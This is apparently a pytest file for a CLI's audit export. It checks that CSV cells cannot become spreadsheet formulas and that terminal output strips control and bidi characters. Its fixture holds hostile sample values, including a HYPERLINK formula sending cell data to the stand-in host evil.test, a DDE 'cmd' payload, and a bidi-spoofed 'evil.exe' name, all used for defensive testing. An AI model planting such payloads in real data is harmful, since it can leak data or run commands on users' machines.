"""Audit export of hostile data through the installed `negotiation-pipeline audit` command over a
real SQLite file and a schema on the throwaway PostgreSQL server: CSV cells cannot become
spreadsheet formulas, and the terminal table shows no control, bidi-override or invisible
characters that could disguise what an entry says."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from negotiation_pipeline.domain.audit import AuditEntry
from negotiation_pipeline.domain.enums import EventType
from negotiation_pipeline.store.audit_format import neutralize_formula, printable
from tests.cli.conftest import CliStore

CLI = Path(sys.executable).parent / "negotiation-pipeline"

# Every way a spreadsheet starts a formula (or DDE call) from a cell's first character.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
BIDI_AND_INVISIBLE = (
    "\u202a\u202b\u202c\u202d\u202e"  # embeddings and overrides
    "\u2066\u2067\u2068\u2069"  # isolates
    "\u200e\u200f\u061c"  # direction marks
    "\u200b\u200c\u200d\u2060\ufeff\u00ad"  # zero-width characters, soft hyphen
)


@dataclass(frozen=True)
class CliRun:
    returncode: int
    stdout: str
    stderr: str


def _cli(*args: str) -> CliRun:
    """The installed console script; output decoded without newline translation (a CR inside
    a CSV cell must reach the test as it reached the terminal)."""
    done = subprocess.run([str(CLI), "audit", *args], capture_output=True, timeout=60, check=False)
    return CliRun(done.returncode, done.stdout.decode(), done.stderr.decode())


@pytest.fixture
def hostile_db(cli_store: CliStore) -> str:
    store = cli_store.open()
    store.audit.insert_many(
        [
            AuditEntry(
                event_type=EventType.EMAIL_RECEIVED,
                influencer_name='=HYPERLINK("http://evil.test/?d="&A1,"Open")',
                campaign_id="+cmd|' /C calc'!A0",
                thread_id="-2+3",
                direction="@SUM(1+1)",
                email_body="\t=1+1",
                negotiation_state="\r=2+2",
                rates_used="＝1+1",
                intent_classification="  =3+3",  # spaces first: some apps trim them
                timestamp=datetime(2026, 3, 2, 10, 0, tzinfo=UTC),
            ),
            AuditEntry(
                event_type=EventType.ERROR,
                influencer_name="Jane\u202eevil.exe\u202c Doe",
                campaign_id="camp\x1b[31m-red\x07",
                metadata={"error": "pay\u200bpal\u2066hidden\u2069 ok", "note": "line1\nline2"},
                timestamp=datetime(2026, 3, 2, 11, 0, tzinfo=UTC),
            ),
        ]
    )
    store.close()
    return cli_store.db


def test_csv_export_prefixes_every_formula_cell_with_a_quote(hostile_db: str) -> None:
    done = _cli("--db", hostile_db, "--format", "csv", "--event-type", "email_received")
    assert done.returncode == 0, done.stderr
    [row] = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert row["influencer_name"] == '\'=HYPERLINK("http://evil.test/?d="&A1,"Open")'
    assert row["campaign_id"] == "'+cmd|' /C calc'!A0"
    assert row["thread_id"] == "'-2+3"
    assert row["direction"] == "'@SUM(1+1)"
    assert row["email_body"] == "'\t=1+1"
    assert row["negotiation_state"] == "'\r=2+2"
    assert row["rates_used"] == "'＝1+1"
    assert row["intent_classification"] == "'  =3+3"
    assert row["timestamp"] == "2026-03-02T10:00:00.000000Z"  # safe cells are untouched


def test_csv_metadata_json_is_neutralized_too(cli_store: CliStore) -> None:
    store = cli_store.open()
    store.audit.insert(
        AuditEntry(event_type=EventType.ERROR, metadata={"error": "=1+1"}, influencer_name="Bo")
    )
    store.close()
    done = _cli("--db", cli_store.db, "--format", "csv")
    [row] = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert json.loads(row["metadata"]) == {"error": "=1+1"}  # JSON starts with "{": stays valid
    assert row["influencer_name"] == "Bo"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralized(start: str) -> None:
    assert neutralize_formula(f"{start}1+1") == f"'{start}1+1"
    if start.strip():  # blanks before a formula sign are trimmed by some apps
        assert neutralize_formula(f" \n{start}1+1") == f"' \n{start}1+1"
    assert neutralize_formula(f"a{start}1") == f"a{start}1"
    assert neutralize_formula("") == ""


def test_table_strips_control_bidi_and_invisible_characters(hostile_db: str) -> None:
    done = _cli("--db", hostile_db, "--event-type", "error")
    assert done.returncode == 0, done.stderr
    out = done.stdout
    for char in BIDI_AND_INVISIBLE + "\x1b\x07":
        assert char not in out, f"U+{ord(char):04X} reached the terminal"
    assert "Janeevil.exe Doe" in out
    assert "camp[31m-red" in out
    assert "paypalhidden ok" in out and "line1 line2" in out


def test_printable_keeps_emoji_sequences_and_real_text() -> None:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"  # one glyph, joined by ZWJ
    assert printable(f"Ana {family} Ruiz") == f"Ana {family} Ruiz"
    assert printable("J\u200dane") == "Jane"  # a joiner between letters only disguises
    assert printable("Zoë Łukasz 李雷 علي") == "Zoë Łukasz 李雷 علي"
    assert printable("tab\there\r\nnext") == "tab here  next"
    assert printable("tag\U000e0041\U000e0042 smuggled") == "tag smuggled"


def test_a_carriage_return_inside_a_cell_does_not_split_the_row(cli_store: CliStore) -> None:
    store = cli_store.open()
    store.audit.insert(AuditEntry(event_type=EventType.ERROR, email_body="first\rsecond"))
    store.audit.insert(AuditEntry(event_type=EventType.ERROR, email_body="third"))
    store.close()
    done = _cli("--db", cli_store.db, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert [row["email_body"] for row in rows] == ["third", "first\rsecond"]
